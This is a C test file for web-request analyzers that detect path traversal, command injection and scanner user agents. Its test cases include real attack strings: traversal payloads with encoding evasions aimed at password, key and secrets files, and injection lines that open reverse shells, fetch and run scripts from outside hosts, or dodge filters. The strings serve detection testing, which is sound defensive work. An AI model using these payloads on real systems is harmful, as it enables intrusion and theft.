/*
 * test_analyze_web.c — the path traversal, command injection and scanner analyzers
 * (src/analyze/an_traversal.c, an_cmdi.c, an_scanner.c): each evasion the analyzers
 * claim to see through (encoded and double-encoded dots, overlong UTF-8, ..%5c, ....//,
 * ..;/, NUL truncation, Unicode lookalikes; ${IFS}, quotes and backslashes inside
 * command words, brace expansion, /bin/ paths, $(...) and backticks; tool names as
 * tokens), the benign values that look like them and must pass (a single ../ to an
 * image, a file: URL to a user's documents, "Tom & Jerry", shell commands pasted as a
 * search, browsers and crawlers), and the evidence each finding points at. Every value
 * goes through analyze_decode first, as the daemon and the harness do.
 */
#include "analyze/analyze.h"
#include "testlib.h"

#include <stdio.h>
#include <string.h>

static char dec[8192];
static unsigned dflags;
static struct analyze_finding fnd;

static size_t decode(const char *s)
{
    return analyze_decode(s, strlen(s), true, dec, sizeof dec, &dflags);
}

static bool trav(const char *raw)
{
    size_t n = decode(raw);
    return analyze_traversal(dec, n, &fnd);
}

static bool trav_flags(const char *raw)
{
    size_t n = decode(raw);
    return analyze_traversal_flags(dec, n, dflags, &fnd);
}

static bool cmdi(const char *raw)
{
    size_t n = decode(raw);
    return analyze_cmdi(dec, n, &fnd);
}

static bool scanner(const char *raw)
{
    size_t n = decode(raw);
    return analyze_scanner(dec, n, &fnd);
}

/* An attack must be found; a benign value must pass. */
#define T_HIT(fn, s)                                                                               \
    do {                                                                                           \
        if (!fn(s)) {                                                                              \
            t_fail(__FILE__, __LINE__, #fn " missed: %s", s);                                      \
            return;                                                                                \
        }                                                                                          \
    } while (0)
#define T_PASS(fn, s)                                                                              \
    do {                                                                                           \
        if (fn(s)) {                                                                               \
            t_fail(__FILE__, __LINE__, #fn " flagged a benign value: %s [%s]", s, fnd.why);        \
            return;                                                                                \
        }                                                                                          \
    } while (0)
/* Found, for the reason given, with the evidence given (a slice of the decoded value). */
#define T_WHY(fn, s, reason, evidence)                                                             \
    do {                                                                                           \
        if (!fn(s)) {                                                                              \
            t_fail(__FILE__, __LINE__, #fn " missed: %s", s);                                      \
            return;                                                                                \
        }                                                                                          \
        T_EQ_STR(fnd.why, reason);                                                                 \
        T_CHECK(fnd.len == strlen(evidence) && !memcmp(dec + fnd.off, evidence, fnd.len));         \
    } while (0)

static void t_traversal_climbs(void)
{
    T_WHY(trav, "../../etc/passwd", "../ climbs 2 levels", "../../");
    T_WHY(trav, "../../../../../../../../../../x", "../ climbs 7 or more levels",
          "../../../../../../../../../../");
    T_HIT(trav, "..\\..\\..\\windows\\win.ini");
    T_HIT(trav, "/var/www/html/../../../etc/passwd");
    T_HIT(trav, "images/../../../x.png");
    T_HIT(trav, "{\"file\":\"../../config.yaml\"}"); /* inside JSON */
    T_HIT(trav, "/download?f=../../x");              /* inside a URL */
    T_HIT(trav, "../../");                           /* the climb alone, a probe */
    T_HIT(trav, "..//..//..//x");
    T_HIT(trav, "../\\../\\x");
    T_HIT(trav, "./../.././../x"); /* "." between climbs */
}

static void t_traversal_encoded(void)
{
    T_WHY(trav, "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "../ climbs 2 levels", "../../");
    T_HIT(trav, "..%2f..%2f..%2fboot.ini");
    T_HIT(trav, "%252e%252e%252f%252e%252e%252fx");            /* double */
    T_HIT(trav, "%25252e%25252e%25252f%25252e%25252e%25252f"); /* triple */
    T_HIT(trav, "..%5c..%5cwindows%5cwin.ini");                /* ..\ */
    T_HIT(trav, "..%255c..%255cx");
    T_HIT(trav, "%c0%ae%c0%ae/%c0%ae%c0%ae/x"); /* overlong '.' */
    T_HIT(trav, "..%c0%af..%c0%afx");           /* overlong '/' */
    T_HIT(trav, "..%c1%9c..%c1%9cx");           /* overlong '\' */
    T_HIT(trav, "%e0%80%ae%e0%80%ae/%e0%80%ae%e0%80%ae/x");
    T_HIT(trav, ".%2e/.%2e/x");
    /* Unicode lookalikes that IIS maps to '.' and '/' climb even once */
    T_WHY(trav, "%uff0e%uff0e/images/a.png", "Unicode lookalike ../", "\xef\xbc\x8e\xef\xbc\x8e/");
    T_HIT(trav, "..%u2215images/a.png");
    T_HIT(trav, "..%u2216..%u2216boot.ini"); /* set minus for '\' */
    T_HIT(trav, "..%ef%bc%8fx");
    /* one encoded climb: only the caller's decoding flags tell */
    T_PASS(trav, "%c0%ae%c0%ae/images/a.png");
    T_WHY(trav_flags, "%c0%ae%c0%ae/images/a.png", "encoded ../", "../");
    T_HIT(trav_flags, "%252e%252e%252fimages/a.png");
    T_PASS(trav_flags, "..%2fimages%2fa.png"); /* a form's ordinary encoding */
}

static void t_traversal_evasions(void)
{
    T_WHY(trav, "....//....//etc/passwd", "....// filter evasion", "..../");
    T_HIT(trav, "..././..././x");
    T_HIT(trav, ".../x");
    T_WHY(trav, "..;/manager/html", "..;/ path parameter traversal", "..;/");
    T_HIT(trav, "/app/..;jsessionid=1/admin");
    T_HIT(trav, "../x.php%00.png");
    T_EQ_STR(fnd.why, "NUL byte after ../");
    T_CHECK(fnd.off == 0 && fnd.len == 13); /* the climb to the end: ../x.php\0.png */
    T_HIT(trav, "..%2fshop.cfg%00");
}

static void t_traversal_targets(void)
{
    T_WHY(trav, "/etc/passwd", "Unix account file", "/etc/passwd");
    T_HIT(trav, "etc/shadow");
    T_HIT(trav, "/etc//passwd");
    T_HIT(trav, "/etc/./passwd");
    T_HIT(trav, "/ETC/PASSWD");
    T_HIT(trav, "/proc/self/environ");
    T_HIT(trav, "/proc/1/environ");
    T_HIT(trav, "C:\\Windows\\win.ini");
    T_HIT(trav, "c:/boot.ini");
    T_HIT(trav, "WEB-INF/web.xml");
    T_HIT(trav, "/.git/config");
    T_HIT(trav, "/home/u/.ssh/id_rsa");
    T_WHY(trav, "/.env", "application secrets file", "/.env");
    T_HIT(trav, "/.env.production");
    T_HIT(trav, "/wp-config.php");
    T_HIT(trav, "\\web.config");
    /* one climb is enough to a sensitive file */
    T_HIT(trav, "../.htaccess");
    T_HIT(trav, "../etc/hosts");
    T_HIT(trav, "../windows/system32/drivers/etc/hosts");
    /* file: URLs and wrappers */
    T_WHY(trav, "file:///etc/passwd", "Unix account file", "/etc/passwd");
    T_WHY(trav, "file:///proc/version", "process information under /proc", "/proc/version");
    T_WHY(trav, "file:///", "file: URL to a system path", "file:///");
    T_HIT(trav, "file://localhost/etc/issue");
    T_HIT(trav, "file:/var/lib/x");
    T_HIT(trav, "FILE:///C:/Windows/System32/");
    T_HIT(trav, "file:///c:/");
    T_HIT(trav, "php://filter/convert.base64-encode/resource=index.php");
    T_HIT(trav, "expect://id");
}

static void t_traversal_benign(void)
{
    T_PASS(trav, "../images/logo.png");
    T_PASS(trav, "../config/settings.yaml");
    T_PASS(trav, "./a/b.png");
    T_PASS(trav, "..");
    T_PASS(trav, "...");
    T_PASS(trav, "and so on... / or not");
    T_PASS(trav, "wait.../what");
    T_PASS(trav, "Loading...");
    T_PASS(trav, "1..10");
    T_PASS(trav, "a..b/c..d");
    T_PASS(trav, "/etc/hosts");
    T_PASS(trav, "C:\\Windows\\System32\\drivers\\etc\\hosts");
    T_PASS(trav, "/var/log/nginx/access.log");
    T_PASS(trav, "file:///C:/Users/Public/Documents/");
    T_PASS(trav, "file://fileserver/share/report.pdf");
    T_PASS(trav, "file: the report");
    T_PASS(trav, ".htaccess redirect to https");
    T_PASS(trav, "how to use .env files in node");
    T_PASS(trav, "web.config transform");
    T_PASS(trav, "id_rsa vs id_rsa.pub");
    T_PASS(trav, "/etc/passwords-guide");
    T_PASS(trav, "my/etc/passwd2");
    T_PASS(trav, "https://example.com/a/../b");
    T_PASS(trav, "a.b.c/d.e.f");
    T_PASS(trav, "php://input vs $_POST");
    T_PASS(trav, "100%2525");
    T_PASS(trav, "");
}

/*
 * Attacks at the edge of the traversal prefilter (a step skipped when the value lacks a
 * dot, a separator or a ':'): the climb scan must still run on lookalikes alone, the
 * targets on a backslash alone, the file: URL check on a ':' with no separator at all.
 */
static void t_traversal_prefilter_edges(void)
{
    /* no ASCII '.', no ASCII separator: only the lookalikes' first bytes */
    T_WHY(trav, "%uff0e%uff0e%uff0fx", "Unicode lookalike ../",
          "\xef\xbc\x8e\xef\xbc\x8e\xef\xbc\x8f");
    T_WHY(trav, "%u2024%u2024%u2215x", "Unicode lookalike ../",
          "\xe2\x80\xa4\xe2\x80\xa4\xe2\x88\x95");
    /* ASCII dots, a lookalike separator only */
    T_WHY(trav, "..%uff0f..%uff0fx", "Unicode lookalike ../", "..\xef\xbc\x8f");
    /* a backslash is the only separator */
    T_WHY(trav, "etc%5cpasswd", "Unix account file", "etc\\passwd");
    T_WHY(trav, "%5c.env", "application secrets file", "\\.env");
    T_WHY(trav, "..%5c..%5cx", "../ climbs 2 levels", "..\\..\\");
    /* a target at the very start and at the very end of the value */
    T_WHY(trav, "WEB-INF/classes", "Java web application classes", "WEB-INF/classes");
    T_WHY(trav, "x=/etc/shadow", "Unix password hashes", "/etc/shadow");
    /* a file: URL with a ':' and no separator; wrappers in capitals */
    T_WHY(trav, "file:c:", "file: URL to a system path", "file:c:");
    T_WHY(trav, "PHP://FILTER/x", "php://filter wrapper", "PHP://FILTER");
    T_WHY(trav, "a EXPECT://id", "expect:// wrapper", "EXPECT://");
    T_PASS(trav, "file:c");
    T_PASS(trav, "etc passwd");
}

static void t_cmdi_separators(void)
{
    T_WHY(cmdi, ";id", "command after ;", ";id");
    T_WHY(cmdi, "127.0.0.1 | whoami", "command after |", "| whoami");
    T_WHY(cmdi, "x||id", "command after ||", "|id");
    T_WHY(cmdi, "x && uname -a", "command after &&", "& uname -a");
    T_HIT(cmdi, "x & ipconfig /all &");
    T_HIT(cmdi, "a%0aid");
    T_HIT(cmdi, "a%0d%0acat /etc/passwd");
    T_HIT(cmdi, "8.8.8.8%3Bls%20-la");
    T_HIT(cmdi, "; ls");
    T_HIT(cmdi, "| dir c:\\");
    T_HIT(cmdi, "& type C:\\boot.ini");
    T_HIT(cmdi, "& net user");
    T_HIT(cmdi, "| net localgroup administrators");
    T_HIT(cmdi, "; ps aux");
    T_HIT(cmdi, ";cat flag.txt");
    T_HIT(cmdi, ";cat</etc/passwd");
    T_HIT(cmdi, "; sudo cat /etc/shadow");
    T_HIT(cmdi, ";(id)");
    T_WHY(cmdi, "`id`", "command in backticks", "`id");
    T_WHY(cmdi, "$(whoami)", "command in $(...)", "$(whoami");
    T_HIT(cmdi, "x$(cat /etc/passwd)");
    T_HIT(cmdi, ";sleep 5");
    T_HIT(cmdi, "$(sleep 10)");
    T_HIT(cmdi, "`sleep 5`");
    T_HIT(cmdi, "& sleep 7 &");
    T_HIT(cmdi, "& ping -c 10 127.0.0.1 &");
    T_HIT(cmdi, "| ping -n 21 127.0.0.1");
    T_HIT(cmdi, ";nslookup x.attacker.example");
    T_HIT(cmdi, "|dig txt x.example");
    T_HIT(cmdi, "|curl http://203.0.113.5/x.sh|sh");
    T_HIT(cmdi, ";wget 203.0.113.5/s");
    T_HIT(cmdi, "& certutil -urlcache -f http://x/a.exe a.exe");
    T_HIT(cmdi, ";nc -e /bin/sh 203.0.113.5 4444");
    T_HIT(cmdi, ";bash -i >& /dev/tcp/203.0.113.5/4444 0>&1");
    T_HIT(cmdi, ";python3 -c 'import os'");
    T_HIT(cmdi, ";perl -e 'print 1'");
    T_HIT(cmdi, ";ruby -e 'exec \"/bin/sh\"'");
    T_HIT(cmdi, "|node -e \"require('child_process')\"");
    T_HIT(cmdi, "& WHOAMI"); /* Windows reads any case */
    T_HIT(cmdi, "& powershell -nop -enc SQBFAFgA");
    T_HIT(cmdi, "& cmd /c whoami");
    T_HIT(cmdi, "& cmd.exe /c ver");
    T_HIT(cmdi, ";echo 'x7k2q9'");
    T_HIT(cmdi, "|echo $((31337+1))");
    T_HIT(cmdi, "& echo abc123def &");
}

static void t_cmdi_evasions(void)
{
    T_WHY(cmdi, ";cat${IFS}/etc/passwd", "${IFS} used as a space", ";cat");
    T_HIT(cmdi, ";cat$IFS$9/etc/passwd");
    T_HIT(cmdi, "cat${IFS}/etc/passwd"); /* no separator: the evasion alone */
    T_HIT(cmdi, "cat$IFS/etc/passwd");
    T_HIT(cmdi, ";echo${IFS%??}x");
    T_WHY(cmdi, "{cat,/etc/passwd}", "brace expansion runs a command", "{cat,/etc/passwd}");
    T_HIT(cmdi, ";{ls,-la,/}");
    T_WHY(cmdi, "w'h'o'am'i", "command word split by quotes or backslashes", "w'h'o'am'i");
    T_HIT(cmdi, ";c\"\"at /etc/passwd");
    T_HIT(cmdi, "w\"h\"o\"am\"i");
    T_HIT(cmdi, ";wh\\oami");
    T_HIT(cmdi, "a;c\\at /etc/pa\\sswd");
    T_HIT(cmdi, ";ca$@t /etc/passwd");
    T_HIT(cmdi, ";who$()ami");
    T_WHY(cmdi, ";/bin/cat /etc/passwd", "system binary by path after a separator", ";/bin/cat");
    T_HIT(cmdi, "|/usr/bin/id");
    T_HIT(cmdi, "& C:\\Windows\\System32\\cmd.exe /c ver");
    T_HIT(cmdi, "%0a/bin/ls -al%0a");
    T_HIT(cmdi, ";/\?\?\?/\?\?t /\?\?\?/p\?\?s\?\?"); /* /???/??t /???/p??s?? */
}

/*
 * A word outside a command position is only read when a quote, a backslash or a '$'
 * lies within the bytes read_word reads from its start: evasions with that byte at the
 * first and the last place a command word can hold it, at the value's edges.
 */
static void t_cmdi_evasion_reach(void)
{
    T_WHY(cmdi, "'id'x c\\at", "command word split by quotes or backslashes", "c\\at");
    /* the backslash 29 bytes in: the longest word that still fits (WORD_MAX) */
    T_WHY(cmdi, "/aaaaaaaaaaaaaaaaaaaaaaaa/who\\ami", "command word split by quotes or backslashes",
          "/aaaaaaaaaaaaaaaaaaaaaaaa/who\\ami");
    T_PASS(cmdi, "/aaaaaaaaaaaaaaaaaaaaaaaaa/who\\ami"); /* one byte longer: no command */
    T_WHY(cmdi, "q=whoami${IFS}", "${IFS} used as a space", "whoami");
    T_WHY(cmdi, "x c\"a\"t", "command word split by quotes or backslashes", "c\"a\"t");
    T_PASS(cmdi, "cat dogs and more dogs, a whole list of them, then a quote: '");
}

static void t_cmdi_benign(void)
{
    T_PASS(cmdi, "Tom & Jerry");
    T_PASS(cmdi, "rock | pop");
    T_PASS(cmdi, "a; b");
    T_PASS(cmdi, "cat videos");
    T_PASS(cmdi, "dogs & cat toys/food");
    T_PASS(cmdi, "dogs & cat videos");
    T_PASS(cmdi, "news; echo chamber");
    T_PASS(cmdi, "eat; sleep 8 hours");
    T_PASS(cmdi, "table tennis; ping pong");
    T_PASS(cmdi, "scripting & powershell tutorial");
    T_PASS(cmdi, "i'd rather be fishing");
    T_PASS(cmdi, "I'd give it 4.5/5");
    T_PASS(cmdi, "type: A; id: 7");
    T_PASS(cmdi, "https://example.com/?a=1&id=5&cat=/shoes");
    T_PASS(cmdi, "https://example.com/path/with;matrix=params");
    T_PASS(cmdi, "ls -la | grep \".txt\"");
    T_PASS(cmdi, "ps aux | grep java");
    T_PASS(cmdi, "cat file | sort | uniq -c");
    T_PASS(cmdi, "curl -sSL https://get.docker.com | sh");
    T_PASS(cmdi, "sudo apt-get update && sudo apt-get upgrade");
    T_PASS(cmdi, "./configure && make && make install");
    T_PASS(cmdi, "cmd > out.txt 2>&1");
    T_PASS(cmdi, "echo \"Hello $name\";");
    T_PASS(cmdi, "This worked for me, but I had to add `sudo` first.");
    T_PASS(cmdi, "`inline code`");
    T_PASS(cmdi, "$(document).ready(function() {})");
    T_PASS(cmdi, "for (int i = 0; i < n; i++)");
    T_PASS(cmdi, "&lt;div&gt; &amp; &nbsp;");
    T_PASS(cmdi, "Q&A; R&D");
    T_PASS(cmdi, "{\"cat\",\"dog\"}");
    T_PASS(cmdi, "{cat, dog}");
    T_PASS(cmdi, "color=red|blue|green");
    T_PASS(cmdi, "Xbox Series X|S");
    T_PASS(cmdi, "x || y");
    T_PASS(cmdi, "What? /??? no");
    T_PASS(cmdi, "Sales & Marketing; Net User Growth");
    T_PASS(cmdi, "Eat; Sleep 8");
    T_PASS(cmdi, "pip install requests && python -m pytest");
    T_PASS(cmdi, "Use `ls -la` to list files");
    T_PASS(cmdi, "Type `whoami` in the terminal");
    T_PASS(cmdi, "git pull && npm install");
    T_PASS(cmdi, "AT&T; Verizon; T-Mobile");
    T_PASS(cmdi, "/api/v1/users?fields=id,name;limit=10");
    T_PASS(cmdi, "");
}

static void t_scanner(void)
{
    T_WHY(scanner, "sqlmap/1.7.2#stable (https://sqlmap.org)", "sqlmap user agent", "sqlmap");
    T_HIT(scanner, "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)");
    T_WHY(scanner,
          "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
          "Nmap user agent", "Nmap");
    T_HIT(scanner, "zgrab2/0.1.7"); /* a version glued to the name */
    T_HIT(scanner, "Mozilla/5.0 zgrab/0.x");
    T_HIT(scanner, "Fuzz Faster U Fool v2.1.0-dev");
    T_HIT(scanner, "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4.1)");
    T_HIT(scanner, "WPSCAN v3.8.22");
    T_HIT(scanner, "x.y.oastify.com");
    T_HIT(scanner, "Mozilla/5.0%20(compatible;%20Nmap%20Scripting%20Engine)");
}

/*
 * The scanner tries at each token only the tools whose name starts with its first
 * letter, and of those the ones whose second byte matches: names that share a first
 * letter are each still found, in either case, at the
 * first and the last byte of the value, and the table's order decides between a short
 * and a long name (qualys before qualysguard).
 */
static void t_scanner_first_letter(void)
{
    T_WHY(scanner, "NUCLEI", "Nuclei user agent", "NUCLEI");
    T_WHY(scanner, "x;netsparker", "Netsparker user agent", "netsparker");
    T_WHY(scanner, "Nessus", "Nessus user agent", "Nessus");
    T_WHY(scanner, "a nikto", "Nikto user agent", "nikto");
    T_WHY(scanner, "(skipfish)", "skipfish user agent", "skipfish");
    T_WHY(scanner, "sqlninja9", "sqlninja user agent", "sqlninja9");
    T_WHY(scanner, "QualysGuard", "Qualys user agent", "QualysGuard");
    T_WHY(scanner, "Owasp - Zap", "OWASP ZAP user agent", "Owasp - Zap");
    T_WHY(scanner, "w3af.org", "w3af user agent", "w3af");
    T_WHY(scanner, "W3AF", "w3af user agent", "W3AF"); /* a digit second */
    T_PASS(scanner, "nmapx nucleix");
    T_PASS(scanner, "x n"); /* a one-byte token at the end */
    T_PASS(scanner, "OWASP");
}

static void t_scanner_benign(void)
{
    T_PASS(scanner, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like "
                    "Gecko) Chrome/124.0.0.0 Safari/537.36");
    T_PASS(scanner, "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)");
    T_PASS(scanner, "curl/8.5.0");
    T_PASS(scanner, "Wget/1.21.4");
    T_PASS(scanner, "python-requests/2.31.0");
    T_PASS(scanner, "Go-http-client/2.0");
    T_PASS(scanner, "HydrangeaBrowser/1.0"); /* tokens, not substrings */
    T_PASS(scanner, "Nmapper/2.0");
    T_PASS(scanner, "Mozilla/5.0 (compatible; SQLmapping/1.0)");
    T_PASS(scanner, "Fuzz Faster");
    T_PASS(scanner, "");
}

/* Long values and junk: linear time, no crash, evidence inside the value. */
static void t_bounds(void)
{
    static char big[60000];
    const char *junk = "../;|&`$({,}'\"\\\n\r%.IFS$9 /etc/passwd cat id nmap \xef\xbc\x8e";
    size_t jl = strlen(junk);
    for (size_t i = 0; i < sizeof big; i++)
        big[i] = junk[i % jl];
    bool (*const fns[])(const char *, size_t, struct analyze_finding *) = {
        analyze_traversal, analyze_cmdi, analyze_scanner};
    for (size_t k = 0; k < 3; k++) {
        for (size_t cut = 0; cut < 64; cut++) {
            struct analyze_finding f = {0};
            size_t n = sizeof big - cut;
            if (fns[k](big, n, &f))
                T_CHECK(f.why && f.off <= n && f.len <= n - f.off);
        }
    }
    /* a word and an argument longer than the reader's bounds */
    memset(big, 'a', sizeof big);
    big[0] = ';';
    struct analyze_finding f;
    T_CHECK(!analyze_cmdi(big, sizeof big, &f));
    memcpy(big + 1, "cat /", 5);
    T_CHECK(analyze_cmdi(big, sizeof big, &f)); /* /aaaa... is still an absolute path */
    T_CHECK(!analyze_traversal("", 0, &f) && !analyze_cmdi("", 0, &f) &&
            !analyze_scanner("", 0, &f));
}

int main(void)
{
    t_run("traversal_climbs", t_traversal_climbs);
    t_run("traversal_encoded", t_traversal_encoded);
    t_run("traversal_evasions", t_traversal_evasions);
    t_run("traversal_targets", t_traversal_targets);
    t_run("traversal_benign", t_traversal_benign);
    t_run("traversal_prefilter_edges", t_traversal_prefilter_edges);
    t_run("cmdi_separators", t_cmdi_separators);
    t_run("cmdi_evasions", t_cmdi_evasions);
    t_run("cmdi_evasion_reach", t_cmdi_evasion_reach);
    t_run("cmdi_benign", t_cmdi_benign);
    t_run("scanner", t_scanner);
    t_run("scanner_first_letter", t_scanner_first_letter);
    t_run("scanner_benign", t_scanner_benign);
    t_run("bounds", t_bounds);
    return t_done();
}
